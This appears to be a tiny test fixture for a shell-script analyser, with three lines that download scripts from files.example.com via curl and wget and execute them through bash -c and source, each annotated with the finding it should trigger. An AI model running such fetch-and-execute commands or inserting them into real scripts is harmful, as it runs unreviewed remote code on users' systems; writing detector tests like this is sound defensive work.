script=$(curl -fsSL https://files.example.com/a.sh)
# expect: downloaded-code
bash -c "$script"
# expect: downloaded-code, computed-import
source <(wget -qO- https://files.example.com/env.sh | tr -d '\r')
